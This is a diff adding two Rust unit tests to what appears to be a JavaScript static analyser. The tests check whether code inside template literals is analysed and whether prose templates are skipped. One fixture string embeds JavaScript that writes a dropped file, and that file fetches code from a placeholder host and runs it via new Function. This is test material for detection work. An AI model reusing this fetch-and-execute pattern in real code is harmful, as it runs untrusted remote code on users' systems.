@@ -387,3 +387,21 @@ fn call_bound_functions_are_their_target() {
     let f = facts("const g = Function.prototype.call.bind(helper); g(null, 1);");
     assert!(!call_paths(&f).contains(&"helper"));
 }
+
+#[test]
+fn code_in_a_template_literal_with_escapes_is_analysed() {
+    // The source of a dropped file kept in a template, with `\\n` in its output lines.
+    let src = "const SERVER = `\nconst https = require('https');\nhttps.get('https://x.invalid/b', (r) => { let d = ''; r.on('data', (c) => d += c); r.on('end', () => new Function(d)()); });\nprocess.stdout.write(JSON.stringify({ ok: true }) + '\\\\n');\n`;\nrequire('fs').writeFileSync(p, SERVER);";
+    let f = facts(src);
+    assert!(has_module(&f, "https"), "{f:?}");
+}
+
+#[test]
+fn an_escaped_template_of_prose_is_not_analysed_as_code() {
+    let src = "const HELP = `usage: tool [options]\\n\\n  --out <dir>   where the files go\\n  --watch       rebuild on change; see https://example.com/docs\\n`;\nconsole.log(HELP);";
+    let f = facts(src);
+    assert!(
+        f.modules.is_empty() && f.calls.iter().all(|c| c.path == "console.log"),
+        "{f:?}"
+    );
+}
